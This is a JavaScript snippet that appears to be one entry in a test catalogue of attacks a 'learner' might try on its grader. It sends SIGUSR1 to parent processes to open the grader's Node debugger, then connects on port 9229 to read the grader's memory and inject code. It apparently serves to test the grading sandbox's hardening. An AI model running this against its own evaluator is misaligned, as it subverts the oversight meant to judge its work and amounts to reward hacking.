// ---
// tries: Has the Node of the grader open its debugger, by SIGUSR1, and connects to it.
// place: before
// gain: the grader's memory, and code of the learner's own in it
// helps: no-debugger
// ---
{
  const client = `require("http").get("http://127.0.0.1:9229/json", (answer) => answer.pipe(process.stdout)).on("error", () => {})`;
  for (const pid of attack.parents) attack.quietly(() => attack.process.kill(pid, "SIGUSR1"));
  Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 500);
  const text = attack.quietly(() =>
    attack.load("child_process").execFileSync(attack.process.execPath, ["-e", client], { timeout: 3000, encoding: "utf8" })
  );
  if (text && !text.includes("/shared/submission")) attack.keep({ read: [{ path: "the debugger of the grader", text }] });
}
